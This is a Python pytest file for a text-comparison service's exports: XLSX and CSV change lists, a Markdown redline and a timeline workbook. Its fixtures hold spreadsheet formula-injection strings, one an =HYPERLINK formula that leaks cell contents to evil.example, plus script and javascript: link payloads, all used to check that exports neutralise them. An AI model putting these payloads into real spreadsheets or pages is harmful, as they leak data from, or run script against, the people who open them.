"""The change list as a spreadsheet (XLSX and CSV), a series' timeline as XLSX, and the Markdown
redline: what a researcher loading the changes into Excel or pandas, or a writer pasting a
redline into a note, relies on.

Every file is read back the way its users read it: the workbooks with openpyxl, the CSV with the
csv module (as Excel reads it: UTF-8 with a byte order mark), the Markdown with a CommonMark
renderer (markdown-it, with GitHub's strikethrough).
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import zipfile
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from diffsvc import compare, series
from diffsvc.models import Comparison
from diffsvc.views.export_table import (
    COLUMNS,
    EXCEL_CELL_CHARS,
    change_rows,
    changes_csv,
    changes_xlsx,
    markdown_redline,
    timeline_xlsx,
)
from diffsvc.views.exports import download_name, series_download_name

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
# fixtures/seed-next-year/a.txt is the seed statement byte for byte (fixtures/PROVENANCE.md).
SEED = FIXTURES / "seed-next-year"
REORDER = FIXTURES / "reorder"
# Texts a spreadsheet program would run as formulas if they reached a cell as written.
HOSTILE_LEFT = (
    '1. =HYPERLINK("http://evil.example/?leak="&A1,"click") the parties.\n'
    "2. @SUM(1+1) meets.\n"
    "3. +1 and more.\n"
)
HOSTILE_RIGHT = (
    '1. =HYPERLINK("http://evil.example/?leak="&A2,"click") the parties.\n'
    "2. @SUM(2+2) meets.\n"
    "3. +1 and more.\n"
    "4. -2 the new one.\n"
)


def _pair(name: Path) -> Comparison:
    left = (name / "a.txt").read_text(encoding="utf-8")
    right = (name / "b.txt").read_text(encoding="utf-8")
    return compare(left, right)


@pytest.fixture(scope="module")
def seed() -> Comparison:
    return _pair(SEED)


def _csv_rows(result: Comparison) -> list[list[str]]:
    return list(csv.reader(io.StringIO(changes_csv(result).encode("utf-8").decode("utf-8-sig"))))


# ---------------------------------------------------------------------------------------------
# XLSX


def test_the_workbook_has_one_row_per_entry_under_a_frozen_filtered_header(
    seed: Comparison,
) -> None:
    book = load_workbook(io.BytesIO(changes_xlsx(seed)))
    assert book.sheetnames == ["Changes", "Summary"]
    sheet = book["Changes"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == COLUMNS
    assert len(rows) == len(seed.alignment) + 1
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:S{len(seed.alignment) + 1}"
    # Entries in reading order, their ops and texts as the comparison has them, Chinese intact.
    header = {name: k for k, name in enumerate(COLUMNS)}
    assert [r[header["Entry"]] for r in rows[1:]] == list(range(1, len(seed.alignment) + 1))
    assert [r[header["What happened"]] for r in rows[1:]] == [e.op.value for e in seed.alignment]
    later = [r[header["Later text"]] for r in rows[1:]]
    assert later[0] == seed.right.clauses[seed.alignment[0].right[0]].text
    assert "第十一次中澳执法合作工作组年度会晤" in later[0]


def test_long_texts_wrap_and_flags_are_booleans(seed: Comparison) -> None:
    sheet = load_workbook(io.BytesIO(changes_xlsx(seed)))["Changes"]
    header = [c.value for c in sheet[1]]
    second = sheet[2]
    for name in ("Earlier text", "Later text", "Number changes", "Commitment changes"):
        column = header.index(name)
        assert second[column].alignment.wrap_text, name
        assert sheet.column_dimensions[second[column].column_letter].width >= 30, name
    assert not second[header.index("Entry")].alignment.wrap_text
    moved = header.index("Moved")
    assert {row[moved].value for row in sheet.iter_rows(min_row=2)} == {True, False}
    similarity = header.index("Similarity")
    values = [row[similarity].value for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(v, int | float) and 0 <= v <= 1 and round(v, 3) == v for v in values)


def test_the_summary_sheet_has_the_counts_and_both_versions(seed: Comparison) -> None:
    result = seed.model_copy(deep=True)
    result.left.source.label, result.right.source.label = "2023", "2024"
    sheet = load_workbook(io.BytesIO(changes_xlsx(result)))["Summary"]
    cells = {row[0]: row[1:] for row in sheet.iter_rows(values_only=True) if row and row[0]}
    assert cells["Summary"][0] == result.summary.text
    assert cells["Substantive"][0] == result.summary.substantive
    assert cells["Moved"][0] == result.summary.moved
    assert cells["Name"][:2] == ("2023", "2024")
    assert cells["Clauses"][:2] == (len(result.left.clauses), len(result.right.clauses))
    assert cells["Repairs"][0] == "pinyin: 166"  # the seed's annotations, removed


def test_a_text_that_looks_like_a_formula_stays_text_in_the_workbook() -> None:
    result = compare(HOSTILE_LEFT, HOSTILE_RIGHT)
    data = changes_xlsx(result)
    sheet = load_workbook(io.BytesIO(data))["Changes"]
    header = [c.value for c in sheet[1]]
    later = [row[header.index("Later text")] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in later] == [c.text for c in result.right.clauses]
    assert {c.data_type for c in later} == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere


def test_characters_xml_forbids_are_dropped_not_fatal(seed: Comparison) -> None:
    """A comparison read back from JSON may hold control characters the engine would have
    removed; the workbook is still written, without them."""
    result = seed.model_copy(deep=True)
    first = result.alignment[0].right[0]
    result.right.clauses[first].text = "Bell\x07 and\x0b tab\there " + "x" * 40_000
    sheet = load_workbook(io.BytesIO(changes_xlsx(result)))["Changes"]
    header = [c.value for c in sheet[1]]
    text = sheet.cell(row=2, column=header.index("Later text") + 1).value
    assert text.startswith("Bell and tab\there x")
    assert len(text) == EXCEL_CELL_CHARS  # Excel's limit: longer cells do not open


# ---------------------------------------------------------------------------------------------
# CSV


def test_the_csv_parses_to_one_row_per_entry_with_chinese_intact(seed: Comparison) -> None:
    data = changes_csv(seed).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")  # so that Excel reads UTF-8
    assert b"\r\n" in data  # RFC 4180 line ends
    rows = _csv_rows(seed)
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(seed.alignment) + 1
    later = [r[COLUMNS.index("Later text")] for r in rows[1:]]
    assert later == ["\n".join(seed.right.clauses[i].text for i in e.right) for e in seed.alignment]
    assert any("新南威爾士" in r[COLUMNS.index("Other notes")] for r in rows[1:])
    flags = {r[COLUMNS.index("Moved")] for r in rows[1:]}
    assert flags == {"yes", "no"}


def test_the_csv_neutralises_formulas() -> None:
    result = compare(HOSTILE_LEFT, HOSTILE_RIGHT)
    rows = _csv_rows(result)
    later = [r[COLUMNS.index("Later text")] for r in rows[1:]]
    expected = [c.text for c in result.right.clauses]
    assert later == ["'" + t for t in expected]  # each starts with = @ + or -
    # Nothing else in the file starts a cell with a formula character either.
    starts = {cell[:1] for row in rows for cell in row}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


# ---------------------------------------------------------------------------------------------
# The rows


def test_rows_carry_numbers_commitments_and_flags(seed: Comparison) -> None:
    rows = change_rows(seed)
    assert len(rows) == len(seed.alignment)
    years = next(r for r in rows if r["Earlier number"] == "3年")
    assert years["Later number"] == "一年"
    assert years["Number changes"] == "过去: 3年 → 一年 (number)"
    # Two numbers changed: the list says which became which, the single pair stays empty.
    meeting = rows[0]
    assert meeting["Earlier number"] is None and meeting["Later number"] is None
    assert "第十次 → 第十一次 (ordinal)" in str(meeting["Number changes"])
    assert any(
        "commitment dropped: establish bilateral" in str(r["Commitment changes"]) for r in rows
    )
    moved = [r for r in rows if r["Moved"]]
    assert moved and all(r["Changed"] for r in moved)
    unchanged = [r for r in rows if r["What happened"] == "unchanged" and not r["Changed"]]
    assert unchanged and all(r["Earlier text"] == r["Later text"] for r in unchanged)
    assert any(r["Renumbered"] and r["Earlier label"] != r["Later label"] for r in rows)


# ---------------------------------------------------------------------------------------------
# Markdown


def _rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable("strikethrough").render(markdown)


def test_the_markdown_redline_marks_deletions_and_insertions(seed: Comparison) -> None:
    html = _rendered(markdown_redline(seed))
    assert "<s>New South Wales</s><strong>Victoria</strong>" in html
    assert "第十<strong>一</strong>次" in html
    # A change that starts or ends in punctuation next to a word keeps its marks too: no mark
    # is left as literal tildes or asterisks.
    assert re.search(r"<(s|del)>[^<]*,</\1>", html)
    assert "~~" not in html and "**" not in html
    chinese = _rendered(
        markdown_redline(compare("1. 加强合作, 共同发展。", "1. 加强合作，共同发展。"))
    )
    assert "合作<del>,</del><ins>，</ins>共同" in chinese.replace("<del> </del>", "")
    assert "commitment dropped: establish bilateral cooperation" in html


def test_the_markdown_redline_never_renders_user_text_as_markup() -> None:
    left = "1. <script>alert(1)</script> *not bold* [x](javascript:alert(2)) a_b.\n2. Same.\n"
    right = "1. <script>alert(3)</script> *not bold* [x](javascript:alert(2)) a_b.\n# 2. Same.\n"
    html = _rendered(markdown_redline(compare(left, right)))
    assert "<script>" not in html and "<em>" not in html and "<a " not in html
    assert "&lt;script&gt;alert(" in html and "*not bold*" in html
    assert "<h1>2" not in html and "<h1># 2" not in html  # a # in a text is no heading


def test_hidden_editorial_changes_read_as_the_later_text() -> None:
    result = compare(
        "1. Alpha , beta.\n2. We will establish it.", "1. Alpha, beta.\n2. We will explore it."
    )
    shown = markdown_redline(result)
    hidden = markdown_redline(result, hide_editorial=True)
    assert "~~ ~~" not in shown and "#### unchanged 1.→1. editorial" in shown
    assert "editorial" not in hidden.split("---", 1)[1]
    assert "1\\. Alpha, beta." in hidden
    assert "~~establish~~**explore**" in hidden


# ---------------------------------------------------------------------------------------------
# A series' timeline


def test_the_timeline_workbook_has_a_row_per_thread_and_a_column_per_version() -> None:
    texts = [
        "1. We will meet each year.\n2. We will share data.\n3. We will fight crime.",
        "1. We will meet each year.\n2. We will fight crime together.",
        "1. We will meet twice a year.\n2. We will share data.\n3. We will fight crime together.",
    ]
    s = series(texts, labels=["2021", "2022", "2023"])
    book = load_workbook(io.BytesIO(timeline_xlsx(s)))
    sheet = book["Timeline"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("Thread", "Text where it last stands", "2021", "2022", "2023")
    assert len(rows) == len(s.threads) + 1
    assert sheet.freeze_panes == "C2"
    assert sheet.auto_filter.ref is not None
    events = {row[1]: row[2:5] for row in rows[1:]}
    assert events["We will meet twice a year."] == (
        "in the first version",
        "unchanged",
        "reworded",
    )
    assert events["We will share data."] == ("in the first version", "removed", "back after a gap")
    assert [r[0] for r in book["Versions"].iter_rows(min_row=2, values_only=True)] == [1, 2, 3]
    assert series_download_name(s, "xlsx") == "2021-to-2023-timeline.xlsx"


def test_a_workbook_is_dated_by_its_comparison_so_each_download_is_the_same_file(
    seed: Comparison,
) -> None:
    """A reader who downloads the change list twice (or from the page and from the API) gets
    one file, byte for byte, dated when the versions were compared."""
    when = datetime.datetime(2024, 5, 13, 9, 30, 12)
    first = changes_xlsx(seed, when=when)
    assert changes_xlsx(seed, when=when) == first
    assert load_workbook(io.BytesIO(first)).properties.created == when
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(2024, 5, 13, 9, 30, 0)}
    s = series(["1. We will meet.", "1. We will meet twice."], labels=["2021", "2022"])
    assert timeline_xlsx(s, when=when) == timeline_xlsx(s, when=when)
    assert load_workbook(io.BytesIO(timeline_xlsx(s, when=when))).properties.modified == when


# ---------------------------------------------------------------------------------------------
# File names


def test_file_names_come_from_the_labels_and_keep_chinese() -> None:
    result = compare("1. Meet.", "1. Meet again.")
    assert download_name(result, "docx") == "earlier-vs-later.docx"
    result.left.source.label, result.right.source.label = "2023", "2024"
    assert download_name(result, "xlsx") == "2023-vs-2024.xlsx"
    result.left.source.label, result.right.source.label = "第十次 会晤", 'a/b\\c:"d"'
    assert download_name(result, "csv") == "第十次-会晤-vs-a-b-c-d.csv"
    assert download_name(result, "csv", ascii_only=True) == "earlier-vs-a-b-c-d.csv"
    result.left.source.label, result.right.source.label = None, None
    result.left.source.filename = "2023 statement.pdf"
    assert download_name(result, "pdf") == "2023-statement-vs-later.pdf"
